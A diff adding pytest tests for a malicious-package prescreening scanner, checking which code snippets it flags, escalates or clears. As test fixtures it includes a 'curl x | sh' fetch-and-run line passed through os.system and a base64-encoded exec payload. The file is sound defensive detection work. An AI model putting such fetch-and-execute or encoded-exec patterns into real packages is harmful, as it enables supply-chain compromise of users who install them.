@@ -0,0 +1,99 @@
+import pytest
+
+from src.utilities import prescreen
+from src.utilities.extract_package import format_package
+from src.utilities.package_cache import CachedPackage
+from src.utilities.prescreen import decide, prescreen_package, scan_source
+
+
+def make_package(tmp_path, files):
+    root = tmp_path / "src" / "pkg-1.0"
+    for rel_path, content in files.items():
+        path = root / rel_path
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(content)
+    (tmp_path / "ws").mkdir()
+    return CachedPackage(format_package(root, str(tmp_path / "ws")))
+
+
+def indicators(path, source):
+    return [finding.indicator for finding in scan_source(path, source)]
+
+
+# --- benign code that must not be flagged -------------------------------------
+
+def test_url_helpers_are_not_network_calls():
+    source = "from urllib.parse import urljoin\nimport urllib.parse\nBASE = urljoin('https://a/', 'b')\n" \
+             "Q = urllib.parse.quote('x')\n"
+    assert indicators("pkg/a.py", source) == []
+
+
+def test_method_named_eval_is_not_exec():
+    assert indicators("pkg/model.py", "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\n") == []
+
+
+def test_exec_of_json_loads_is_not_an_encoded_payload():
+    found = indicators("pkg/cfg.py", "import json\nexec(json.loads('\"x = 1\"'))\n")
+    assert found == ["dynamic_exec"]
+
+
+def test_benign_package_with_url_helpers_is_escalated_not_malicious(tmp_path):
+    files = {f"pkg/mod{i}.py": "from urllib.parse import urljoin\nBASE = urljoin('https://h/', 'api')\n"
+             for i in range(4)}
+    files["setup.py"] = "from setuptools import setup\nsetup(name='pkg')\n"
+    report = prescreen_package(make_package(tmp_path, files))
+    assert report.findings == []
+    assert report.decision == "escalate"
+
+
+def test_weak_indicators_do_not_add_up_to_malicious(tmp_path):
+    # Import-time process and network calls in several modules, but nothing strong.
+    files = {f"pkg/mod{i}.py": "import subprocess, requests\nsubprocess.run(['true'])\nrequests.get('https://h')\n"
+             for i in range(5)}
+    report = prescreen_package(make_package(tmp_path, files))
+    assert {f.indicator for f in report.findings} == {"import_time_process", "import_time_network"}
+    assert report.risk_score == 55  # each indicator once per package
+    assert report.decision == "escalate"
+
+
+# --- malicious code that must be flagged ------------------------------------------
+
+def test_dynamic_import_call_chains_are_resolved():
+    assert indicators("setup.py", "__import__('os').system('curl x | sh')\n") == ["import_time_process"]
+    assert indicators("pkg/a.py", "import importlib\nimportlib.import_module('socket').socket()\n") == \
+        ["import_time_network"]
+
+
+def test_encoded_payload_is_auto_malicious(tmp_path):
+    files = {"pkg/__init__.py": "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"}
+    report = prescreen_package(make_package(tmp_path, files))
+    assert report.decision == "malicious"
+
+
+def test_setup_network_call_is_strong():
+    assert indicators("setup.py", "import urllib.request\nurllib.request.urlopen('http://x')\n") == \
+        ["setup_network_call"]
+
+
+def test_unscanned_files_force_escalation(tmp_path, monkeypatch):
+    monkeypatch.setattr(prescreen, "AUTO_BENIGN_SCORE", 0)
+    files = {"pkg/__init__.py": "x = 1\n", "pkg/evil.pth": "import os\n", "pkg/old.py": "print 'py2'\n"}
+    report = prescreen_package(make_package(tmp_path, files))
+    assert sorted(report.files_unscanned) == ["pkg/evil.pth", "pkg/old.py"]
+    assert report.decision == "escalate"
+
+
+# --- policy ------------------------------------------------------------------
+
+@pytest.mark.parametrize("score, strong, decision", [(100, False, "escalate"), (80, True, "malicious"),
+                                                     (79, True, "escalate")])
+def test_decide_needs_a_strong_indicator(score, strong, decision):
+    assert decide(score, strong=strong) == decision
+
+
+def test_auto_benign_is_opt_in(monkeypatch):
+    assert decide(0) == "escalate"
+    monkeypatch.setattr(prescreen, "AUTO_BENIGN_SCORE", 0)
+    assert decide(0) == "benign"
+    assert decide(0, truncated=True) == "escalate"
+    assert decide(0, unscanned=1) == "escalate"